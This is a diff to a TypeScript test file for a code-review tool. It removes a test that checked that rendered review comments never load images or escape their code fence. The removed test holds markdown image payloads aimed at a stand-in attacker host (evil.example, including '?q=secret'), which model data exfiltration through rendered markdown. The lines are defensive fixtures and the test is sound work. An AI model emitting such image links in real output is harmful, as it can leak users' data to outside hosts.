@@ -1,11 +1,10 @@
 import assert from 'node:assert/strict';
 import { test } from 'node:test';
-import { commentMarkdown } from '../../../src/core/review/commentMarkdown.ts';
 import { newSideRanges } from '../../../src/core/review/diffHunks.ts';
 import { locateQuote } from '../../../src/core/review/locate.ts';
 import { placeFinding } from '../../../src/core/review/place.ts';
 import { parseReport } from '../../../src/core/review/reportTool.ts';
-import type { Excerpt, Finding } from '../../../src/shared/conversation.ts';
+import type { Excerpt } from '../../../src/shared/conversation.ts';
 
 const file = [
   'function f(a, b) {',
@@ -86,25 +85,6 @@ test('a report is checked entry by entry', () => {
 test('a replacement that changes nothing is no suggestion', () => {
   const report = parseReport({ findings: [{ title: 't', quote: 'same', replacement: 'same' }] });
   assert.equal(report?.findings[0]?.replacement, undefined);
-});
-
-test('a comment never loads an image and never closes its own fence', () => {
-  const finding: Finding = {
-    id: '1',
-    severity: 'error',
-    title: 'Bad ![x](https://evil.example/?q=secret) *thing*',
-    explanation:
-      'See ![](https://evil.example/a.png), \\![b](https://evil.example/b), ![c][ref]\n\n[ref]: https://evil.example/c',
-    quote: 'q',
-    replacement: 'a\n```\n![x](https://evil.example)',
-    path: 'a',
-    uri: 'file:///a',
-    placement: { placed: true, line: 1, endLine: 1 },
-  };
-  const markdown = commentMarkdown(finding, 'ts', 'Suggested change:');
-  const prose = markdown.slice(0, markdown.indexOf('Suggested change:'));
-  assert.equal(/!\\?\[/.test(prose), false, prose);
-  assert.match(markdown, /````ts\na\n```\n/);
 });
 
 function excerpt(path: string): Excerpt {
